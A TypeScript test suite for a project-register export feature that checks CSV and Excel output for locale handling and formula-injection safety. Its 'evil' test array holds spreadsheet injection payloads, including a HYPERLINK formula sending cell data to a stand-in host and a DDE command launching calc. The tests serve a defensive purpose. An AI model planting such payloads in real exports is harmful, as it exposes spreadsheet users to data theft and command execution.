import * as path from 'path';
import { csvField, csvTextField, csvSeparator, exportFileName, neutraliseCsvText, toCsv, type ExportTable } from '../../../src/components/exportModel';
import { exportTable } from '../../../src/webparts/projectRegister/components/registerExport';
import { xlsxBytes } from '../../../src/components/exportFiles';
import type { Project } from '../../../src/model/portfolio';
import { loadAmdFile } from '../loc/amd';

const root = path.resolve(__dirname, '../../..');
const strings = (l: string): IProjectRegisterWebPartStrings => loadAmdFile(path.join(root, `src/webparts/projectRegister/loc/${l}.js`)) as IProjectRegisterWebPartStrings;
const common = (l: string): IPmoHubCommonStrings => loadAmdFile(path.join(root, `src/common/loc/${l}.js`)) as IPmoHubCommonStrings;

const evil = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', '+cmd|\' /C calc\'!A0', '-1+1', '@SUM(A1:A2)', '\tTab', '\rCR'];

function project(id: number, over: Partial<Project> = {}): Project {
  return { id, code: `PMO-${id}`, title: `Project ${id}`, phase: 'Execution', strategicObjectives: [], criteriaScores: {}, ...over };
}

describe('export model', () => {
  it.each(evil)('neutralises a formula-like cell in CSV: %j', (value) => {
    expect(neutraliseCsvText(value)).toBe(`'${value}`);
  });

  it('leaves ordinary text alone (including a minus inside)', () => {
    expect(neutraliseCsvText('Phase 1 - build')).toBe('Phase 1 - build');
    expect(neutraliseCsvText('a=b')).toBe('a=b');
  });

  it('uses ; where the decimal mark is a comma, , in English', () => {
    expect(csvSeparator('en-US')).toBe(',');
    expect(csvSeparator('sv-SE')).toBe(';');
    expect(csvSeparator('da-DK')).toBe(';');
    expect(csvSeparator('nl-NL')).toBe(';');
  });

  it('quotes separators, quotes and newlines (RFC 4180)', () => {
    expect(csvField('a;b', ';')).toBe('"a;b"');
    expect(csvField('a;b', ',')).toBe('a;b');
    // People's text quotes the other language's separator too: the file may be opened with either one.
    expect(csvTextField('a;b', ',')).toBe('"a;b"');
    expect(csvTextField('a,b', ';')).toBe('"a,b"');
    expect(csvTextField('plain', ';')).toBe('plain');
    expect(csvField('say "hi"', ',')).toBe('"say ""hi"""');
    expect(csvField('line 1\nline 2', ';')).toBe('"line 1\nline 2"');
    expect(csvField('plain', ';')).toBe('plain');
  });

  it('lets no formula through the other separator (issue 11: Q4;=5+5 in an English file, Q4,=6+6 in a Swedish one)', () => {
    const table: ExportTable = { headers: ['Title', 'Unit'], rows: [[{ kind: 'text', value: 'Q4;=5+5' }, { kind: 'text', value: 'Q4,=6+6' }]] };
    for (const locale of ['en-US', 'sv-SE', 'da-DK', 'nl-NL']) {
      const row = toCsv(table, locale).slice(1).split('\r\n')[1];
      // Read with EITHER separator, honouring quotes as Excel and LibreOffice do: no cell starts a formula.
      for (const sep of [',', ';']) {
        const cells: string[] = [];
        let cur = '';
        let quoted = false;
        for (const ch of row) {
          if (ch === '"') quoted = !quoted;
          else if (ch === sep && !quoted) { cells.push(cur); cur = ''; } else cur += ch;
        }
        cells.push(cur);
        expect(cells.filter((c) => /^[=+\-@]/.test(c))).toEqual([]);
        expect(cells.join('|')).toContain('Q4;=5+5');
        expect(cells.join('|')).toContain('Q4,=6+6');
      }
    }
  });

  it('writes UTF-8 CSV with a BOM, CRLF, localised headers and numbers, neutralised text', () => {
    const projects = [
      project(1, { title: '=HYPERLINK("http://x","y")', description: 'Köpenhamn; "quoted"\nsecond line', budget: 1200000.5, startDate: '2026-03-01', unit: '+cmd' }),
      project(2, { title: '-1+1', programme: '@SUM(A1)', latestOverall: 'Red' })
    ];
    const sv = toCsv(exportTable(projects, strings('sv-se'), common('sv-se')), 'sv-SE');
    expect(sv.charCodeAt(0)).toBe(0xfeff);
    const lines = sv.slice(1).split('\r\n');
    expect(lines[0].split(';').slice(0, 3)).toEqual(['Projektkod', 'Projektnamn', 'Beskrivning']);
    expect(sv).toContain(';"\'=HYPERLINK(""http://x"",""y"")";');
    expect(sv).toContain('"Köpenhamn; ""quoted""\nsecond line"');
    expect(sv).toContain(";'+cmd;");
    expect(sv).toContain(";'-1+1;");
    expect(sv).toContain("'@SUM(A1)");
    expect(sv).toContain(';1200000,5;');
    expect(sv).toContain(';2026-03-01;');
    expect(sv).toContain(';Röd;');
    const en = toCsv(exportTable(projects, strings('en-us'), common('en-us')), 'en-US');
    expect(en.slice(1).split('\r\n')[0].startsWith('Project code,Project name,Description')).toBe(true);
    expect(en).toContain(',1200000.5,');
  });

  it('names columns in Danish and Dutch', () => {
    expect(exportTable([], strings('da-dk'), common('da-dk')).headers[0]).toBe('Projektkode');
    expect(exportTable([], strings('nl-nl'), common('nl-nl')).headers[0]).toBe('Projectcode');
  });

  it('names the file after the language and the day', () => {
    expect(exportFileName('projekt', new Date(2026, 10, 5), 'xlsx')).toBe('projekt-2026-11-05.xlsx');
  });

  it('writes formula-like text to .xlsx as plain strings, numbers as numbers, dates as dates', async () => {
    const table: ExportTable = {
      headers: ['Code', 'Title', 'Budget', 'Start'],
      rows: [
        [{ kind: 'text', value: 'A' }, { kind: 'text', value: evil[0] }, { kind: 'number', value: 1200000.5 }, { kind: 'date', value: '2026-03-01' }],
        ...evil.slice(1).map((e): ExportTable['rows'][number] => [{ kind: 'text', value: e }, { kind: 'empty' }, { kind: 'empty' }, { kind: 'empty' }])
      ]
    };
    const bytes = await xlsxBytes(table, 'Projects');
    // eslint-disable-next-line @typescript-eslint/no-var-requires
    const ExcelJS = require('exceljs') as typeof import('exceljs');
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(bytes);
    const sheet = wb.getWorksheet('Projects');
    if (!sheet) throw new Error('no sheet');
    expect(sheet.getCell('B2').value).toBe(evil[0]);
    expect(sheet.getCell('B2').type).toBe(ExcelJS.ValueType.String);
    expect(sheet.getCell('B2').formula).toBeUndefined();
    for (let i = 1; i < evil.length; i++) {
      // XML reading turns a lone CR into LF; it stays text either way.
      expect(String(sheet.getCell(`A${i + 2}`).value).replace(/\r/g, '\n')).toBe(evil[i].replace(/\r/g, '\n'));
      expect(sheet.getCell(`A${i + 2}`).type).toBe(ExcelJS.ValueType.String);
    }
    expect(sheet.getCell('C2').value).toBe(1200000.5);
    expect((sheet.getCell('D2').value as Date).toISOString().slice(0, 10)).toBe('2026-03-01');
    // No formula anywhere in the workbook's XML.
    const JSZip = require('jszip') as typeof import('jszip'); // eslint-disable-line @typescript-eslint/no-var-requires
    const zip = await JSZip.loadAsync(bytes);
    const xml = await zip.file('xl/worksheets/sheet1.xml')?.async('string');
    expect(xml).not.toContain('<f>');
  });

  it('writes a sheet Excel opens as it was exported: bold frozen header, Danish and Dutch text, dates formatted, widths', async () => {
    const table: ExportTable = {
      headers: ['Kode', 'Projektnavn', 'Budget (kr.)', 'Startdato'],
      rows: [
        [{ kind: 'text', value: 'PMO-1' }, { kind: 'text', value: 'Ældre IJsselmeer-dijk & <øst> "fase 2"' }, { kind: 'number', value: 1234.5 }, { kind: 'date', value: '2027-01-15' }],
        [{ kind: 'text', value: 'PMO-2' }, { kind: 'empty' }, { kind: 'number', value: -0.25 }, { kind: 'date', value: '1999-12-31' }]
      ]
    };
    const bytes = await xlsxBytes(table, 'Projekter: 2027/Q1 [alle]');
    // eslint-disable-next-line @typescript-eslint/no-var-requires
    const ExcelJS = require('exceljs') as typeof import('exceljs');
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(bytes);
    // Excel refuses : / [ ] in a sheet name.
    const sheet = wb.getWorksheet('Projekter  2027 Q1  alle ');
    if (!sheet) throw new Error(`no sheet: ${wb.worksheets.map((w) => w.name).join(', ')}`);
    expect(sheet.getRow(1).values).toEqual([undefined, 'Kode', 'Projektnavn', 'Budget (kr.)', 'Startdato']);
    expect(sheet.getCell('A1').font?.bold).toBe(true);
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(sheet.getCell('B2').value).toBe('Ældre IJsselmeer-dijk & <øst> "fase 2"');
    expect(sheet.getCell('B3').value).toBeNull();
    expect(sheet.getCell('C2').value).toBe(1234.5);
    expect(sheet.getCell('C3').value).toBe(-0.25);
    expect((sheet.getCell('D2').value as Date).toISOString()).toBe('2027-01-15T00:00:00.000Z');
    expect((sheet.getCell('D3').value as Date).toISOString()).toBe('1999-12-31T00:00:00.000Z');
    expect(sheet.getCell('D2').numFmt).toBe('yyyy-mm-dd');
    expect(sheet.getColumn(2).width).toBe('Ældre IJsselmeer-dijk & <øst> "fase 2"'.length + 2);
    expect(sheet.rowCount).toBe(3);
  });
});
